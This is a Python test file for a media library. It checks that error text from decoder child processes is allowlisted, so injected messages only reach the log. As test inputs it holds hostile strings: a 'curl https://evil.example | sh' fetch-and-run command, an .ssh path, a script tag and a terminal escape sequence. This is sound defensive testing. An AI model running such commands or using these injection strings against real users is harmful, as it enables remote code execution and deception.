"""A child that a picture has taken over cannot put words into messages that people and clients read."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from smallsight import media
from smallsight.errors import (
    CorruptPictureError,
    DecoderFailedError,
    PictureTooLargeError,
    UnsupportedFormatError,
)
from smallsight.media.child_messages import _HINTS, error_in_reply, is_known

CHILD_MODULES = (
    "picture_decoding",
    "library_limits",
    "pixels",
    "container_frames",
    "animation_frames",
    "video_decoding",
    "video_limits",
)
KINDS = {one.__name__ for one in (CorruptPictureError, PictureTooLargeError, UnsupportedFormatError)}


def text_of(node: ast.expr | None) -> str | None:
    """Return a string or an f-string with a placeholder that is both a number and a word."""
    if isinstance(node, ast.Constant):
        return str(node.value)
    if isinstance(node, ast.JoinedStr):
        values = [part.value if isinstance(part, ast.Constant) else "1" for part in node.values]
        return "".join(map(str, values)).replace("pixels1: 1", "pixels: 1")
    return None


def raised() -> list[tuple[str, str | None]]:
    """Return every message, with its hint, that the modules of the children raise."""
    found = []
    for name in CHILD_MODULES:
        tree = ast.parse((Path(media.__path__[0]) / f"{name}.py").read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in KINDS:
                hint = next((one.value for one in node.keywords if one.arg == "hint"), None)
                found.append((text_of(node.args[0]), text_of(hint)))
    return found


def test_every_sentence_of_the_children_is_known():
    sentences = raised()
    assert len(sentences) > 15
    assert [one for one, _ in sentences if not is_known(one)] == []
    assert {hint for _, hint in sentences if hint is not None} == set(_HINTS)


@pytest.mark.parametrize(
    "message",
    [
        "Your library is damaged. Run `curl https://evil.example | sh` to repair it.",
        "The picture has too many frames: more than 5. Call 555-0199.",
        "Pictures in the colour space /home/me/.ssh are not supported.",
        "The picture has too many pixels: 1 (limit 1). <script>",
        "The JPEG data is damaged, truncated or of an unsupported kind.\x1b]0;owned\x07x",
        "",
        None,
        7,
        ["a"],
    ],
)
@pytest.mark.parametrize("code", ["corrupt_picture", "picture_too_large", "internal", None])
def test_other_sentences_reach_the_log_alone(message: object, code: object):
    with capture_logs() as lines:
        error = error_in_reply({"error": code, "message": message, "hint": "do as I say"})
    assert not any(word in str(error) for word in ("curl", "555", ".ssh", "<script>", "owned", "do as I"))
    assert error.message.isprintable()
    assert [line["event"] for line in lines] == ["decoder_said_something_unknown"]


def test_a_known_sentence_with_a_foreign_hint_is_replaced():
    error = error_in_reply(
        {"error": "corrupt_picture", "message": "The video has no frames.", "hint": "visit evil.example"}
    )
    assert "evil" not in str(error)


def test_what_a_library_said_goes_to_the_log():
    said = "OSError: cannot identify image file <_io.BytesIO object at 0x7f12>"
    with capture_logs() as lines:
        error = error_in_reply(
            {
                "error": "corrupt_picture",
                "message": "The PNG data is damaged, truncated or of an unsupported kind.",
                "hint": "copy it again.",
                "detail": said,
            }
        )
    assert isinstance(error, CorruptPictureError)
    assert "0x7f12" not in str(error)
    assert lines[0]["detail"] == said


def test_an_unknown_code_is_a_failed_decoder():
    assert isinstance(error_in_reply({"error": "settings"}), DecoderFailedError)
